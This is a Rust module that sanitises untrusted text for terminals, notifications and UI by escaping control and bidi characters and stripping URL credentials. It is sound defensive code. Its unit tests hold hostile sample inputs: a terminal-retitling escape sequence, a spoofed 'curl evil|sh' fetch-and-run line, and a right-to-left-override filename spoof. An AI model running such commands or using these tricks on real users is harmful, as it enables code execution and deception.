//! The one sanitiser for text from outside (IdP, STS, files, config, environment) on its way to a
//! terminal, a notification or the UI: an IdP must not be able to retitle or clear a terminal, hide or
//! reorder text with bidi controls, print a spoofed line, or flood a window.
//!
//! Control characters, bidi and invisible format characters are shown escaped (`\u{1b}`), so the person
//! sees that something odd was sent instead of its effect; the length is capped in characters.

use std::fmt::Write;

/// Cap for one value inside a message (an error description, a claim, a URL).
pub const FIELD_MAX: usize = 300;
/// Cap for a whole message line.
pub const LINE_MAX: usize = 2000;

/// Characters a terminal or text renderer would act on rather than show.
fn is_hostile(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{061C}'                 // arabic letter mark
            | '\u{200B}'..='\u{200F}'  // zero-width space/joiners, LRM, RLM
            | '\u{2028}' | '\u{2029}'  // line and paragraph separators
            | '\u{202A}'..='\u{202E}'  // bidi embeddings and overrides
            | '\u{2060}'..='\u{2064}'  // word joiner, invisible operators
            | '\u{2066}'..='\u{2069}'  // bidi isolates
            | '\u{FEFF}'               // BOM / zero-width no-break space
            | '\u{FFF9}'..='\u{FFFB}'  // interlinear annotations
        )
}

/// `text` made safe to show on one line: hostile characters escaped, at most `max` characters (then "…").
pub fn line(text: &str, max: usize) -> String {
    let mut out = String::with_capacity(text.len().min(max * 2));
    for (shown, c) in text.chars().enumerate() {
        if shown >= max {
            out.push('…');
            break;
        }
        if is_hostile(c) {
            match c {
                '\n' => out.push_str("\\n"),
                '\r' => out.push_str("\\r"),
                '\t' => out.push_str("\\t"),
                _ => {
                    let _ = write!(out, "\\u{{{:x}}}", c as u32);
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// A value from outside inside a message: [`line`] with [`FIELD_MAX`].
pub fn field(text: &str) -> String {
    line(text, FIELD_MAX)
}

/// A whole message (for example an error's Display) before it reaches stderr or a window.
pub fn message(text: &str) -> String {
    line(text, LINE_MAX)
}

/// Several lines (a notification body): each line sanitised, line breaks kept, markup made inert
/// (some notification daemons render `<b>`, `<a href>` and `&entities;` in bodies).
pub fn notification(text: &str) -> String {
    let inert: String = text
        .chars()
        .map(|c| match c {
            '<' => '‹',
            '>' => '›',
            '&' => '+',
            c => c,
        })
        .collect();
    inert.lines().take(20).map(|l| line(l, LINE_MAX)).collect::<Vec<_>>().join("\n")
}

/// serde_json's output with every hostile character that it leaves as is (bidi and invisible format
/// characters; it escapes the control characters itself) written as a JSON `\uXXXX` escape: the same
/// JSON value, shown without its effect on a terminal.
pub fn json(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        // JSON's own whitespace between values stays (inside strings serde_json escapes it already)
        if is_hostile(c) && !matches!(c, '\n' | '\r' | '\t') {
            // every hostile character is in the Basic Multilingual Plane: one escape each
            let _ = write!(out, "\\u{:04x}", c as u32);
        } else {
            out.push(c);
        }
    }
    out
}

/// A URL for a message: without `user:password@`, query and fragment (a presigned download URL carries
/// its credential in the query), then [`field`]. Text that is not a URL is only [`field`]ed.
pub fn url(text: &str) -> String {
    match url::Url::parse(text) {
        Ok(mut u) if u.has_host() => {
            let _ = u.set_username("");
            let _ = u.set_password(None);
            let hidden = u.query().is_some() || u.fragment().is_some();
            u.set_query(None);
            u.set_fragment(None);
            field(&(u.to_string() + if hidden { "?…" } else { "" }))
        }
        _ => field(text),
    }
}

/// An error and its causes on one line ("a: b: c"), leaving out a cause whose text the line already
/// holds (some messages quote their source).
pub fn one_line(error: &(dyn std::error::Error + 'static)) -> String {
    let mut line = error.to_string();
    let mut cause = error.source();
    while let Some(c) = cause {
        let text = c.to_string();
        if !text.is_empty() && !line.contains(&text) {
            line.push_str(": ");
            line.push_str(&text);
        }
        cause = c.source();
    }
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_and_controls_are_shown_not_acted_on() {
        assert_eq!(line("a\x1b]0;pwned\x07b", 100), "a\\u{1b}]0;pwned\\u{7}b");
        assert_eq!(line("x\r\nNow run: curl evil|sh", 100), "x\\r\\nNow run: curl evil|sh");
        assert_eq!(line("\u{9b}2J", 100), "\\u{9b}2J");
        assert_eq!(line("abc\u{202E}gpj.exe", 100), "abc\\u{202e}gpj.exe");
        assert_eq!(line("\u{2066}x\u{2069}\u{200b}", 100), "\\u{2066}x\\u{2069}\\u{200b}");
        assert_eq!(line("nul\0", 100), "nul\\u{0}");
    }

    #[test]
    fn ordinary_text_is_unchanged_and_long_text_capped() {
        assert_eq!(line("alice@example.com 山田 ✓", 100), "alice@example.com 山田 ✓");
        assert_eq!(line(&"x".repeat(10), 4), "xxxx…");
        assert_eq!(field(&"é".repeat(5000)).chars().count(), FIELD_MAX + 1);
    }

    #[test]
    fn json_keeps_its_value_and_loses_its_bidi_effect() {
        let v = serde_json::json!({"sub": "a\u{202e}b\u{1b}"});
        let shown = json(&serde_json::to_string(&v).unwrap());
        assert_eq!(shown, r#"{"sub":"a\u202eb\u001b"}"#);
        assert_eq!(serde_json::from_str::<serde_json::Value>(&shown).unwrap(), v);
        let pretty = json(&serde_json::to_string_pretty(&v).unwrap());
        assert_eq!(serde_json::from_str::<serde_json::Value>(&pretty).unwrap(), v, "{pretty}");
    }

    #[test]
    fn urls_in_messages_lose_their_credentials() {
        assert_eq!(url("https://u:p@team.example/c.toml?X-Amz-Signature=s#f"), "https://team.example/c.toml?…");
        assert_eq!(url("https://team.example/c.toml"), "https://team.example/c.toml");
        assert_eq!(url("./team\x1b.toml"), "./team\\u{1b}.toml");
    }

    #[test]
    fn notifications_keep_lines_but_no_markup() {
        assert_eq!(notification("<b>hi</b> & <a href='x'>\nl2\x1b"), "‹b›hi‹/b› + ‹a href='x'›\nl2\\u{1b}");
    }
}
